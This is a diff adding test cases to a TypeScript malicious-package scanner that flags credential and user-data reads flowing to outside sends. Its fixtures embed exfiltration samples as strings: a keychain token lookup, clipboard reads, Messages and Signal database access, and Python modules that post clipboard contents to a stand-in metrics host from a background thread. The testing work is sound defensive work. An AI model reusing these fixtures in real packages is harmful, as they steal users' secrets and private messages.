@@ -4,7 +4,7 @@ import type { CodeFacts } from '../code/code-facts.js';
 import { javascriptFacts } from '../code/javascript/index.js';
 import { pythonFacts } from '../code/python-facts.js';
 import { CAPABILITY_COOCCURRENCE_TITLE, CAPABILITY_FLOW_TITLE, capabilityFindings, capabilityModule, type AutoRunEntry, type CapabilityModule } from './capability-findings.js';
-import { capabilityProfile } from './capability-profile.js';
+import { SECRET_OR_USER_DATA_SOURCE, capabilityProfile } from './capability-profile.js';
 import { packageIdentity } from './package-identity.js';
 
 /** Builds the module graph of an in-memory package (relative imports only) the way the packages agent does. */
@@ -70,6 +70,32 @@ def gather(name):
 `;
     const caps = capabilityProfile(pythonFacts(text), text).capabilities;
     expect(caps.some((c) => c.kind === 'secret-read' && c.detail.includes('.aws'))).toBe(true);
+  });
+
+  it('keychain lookups, clipboard commands and message stores are sources; the hint for other agents names them', () => {
+    const js = `const { execSync } = require('child_process');
+const token = execSync('security find-generic-password -s github.com -w').toString();
+const clip = execSync('xclip -selection clipboard -o').toString();
+`;
+    expect(capabilityProfile(javascriptFacts(js), js).capabilities.map((c) => [c.kind, c.line])).toEqual([
+      ['secret-read', 2],
+      ['user-data', 3],
+    ]);
+    const py = `import keyring, sqlite3
+pw = keyring.get_password("svc", "me")
+con = sqlite3.connect("/Users/me/Library/Messages/chat.db")
+`;
+    expect(capabilityProfile(pythonFacts(py), py).capabilities.map((c) => [c.kind, c.line])).toEqual([
+      ['secret-read', 2],
+      ['user-data', 3],
+    ]);
+    // Copying to the clipboard (xclip without -o) and an ordinary database are not sources.
+    const honest = `const { execSync } = require('child_process');
+execSync('xclip -selection clipboard', { input: text });
+`;
+    expect(capabilityProfile(javascriptFacts(honest), honest).capabilities).toEqual([]);
+    for (const t of [js, py, 'subprocess.check_output(["pbpaste"])', 'open(os.path.join(home, ".zsh_history"))', "join(home, 'Library/Application Support/Signal/sql/db.sqlite')"]) expect(SECRET_OR_USER_DATA_SOURCE.test(t)).toBe(true);
+    for (const t of [honest, "fs.readFileSync('notes.db')", 'navigator.clipboard.writeText(x)']) expect(SECRET_OR_USER_DATA_SOURCE.test(t)).toBe(false);
   });
 
   it('a plain config file of the package is no secret read', () => {
@@ -155,6 +181,17 @@ setup(name="helper", cmdclass={"install": Post})
       'helper/_agent.py': `import subprocess\ndef report(v):\n    subprocess.run(["curl", "-s", "-d", v, "https://stats.example/r"])\n`,
     };
     expect(judge(setup, [{ rel: 'setup.py', when: 'install' }]).map((f) => [f.severity, f.file])).toEqual([['CRIT', 'setup.py']]);
+  });
+
+  it('a Python `from . import a, b` reader called into a variable handed to the sender: CRIT', () => {
+    const files = {
+      'pkg/__init__.py': '',
+      'pkg/__main__.py': `from .server import main\nmain()\n`,
+      'pkg/server.py': `import threading\nfrom . import collect, report\n\ndef _warm():\n    snapshot = collect.recent()\n    report.send(snapshot)\n\ndef main():\n    threading.Thread(target=_warm).start()\n`,
+      'pkg/collect.py': `import subprocess\n\ndef recent():\n    return subprocess.check_output(["pbpaste"], text=True)\n`,
+      'pkg/report.py': `import urllib.request\n\ndef send(d):\n    urllib.request.urlopen(urllib.request.Request("https://metrics.example/in", data=d.encode()))\n`,
+    };
+    expect(judge(files, [{ rel: 'pkg/__main__.py', when: 'start' }]).map((f) => [f.severity, f.title, f.file])).toEqual([['CRIT', CAPABILITY_FLOW_TITLE, 'pkg/server.py']]);
   });
 
   it('a read and an outside send on one automatic path with no flow between them: HIGH co-occurrence', () => {
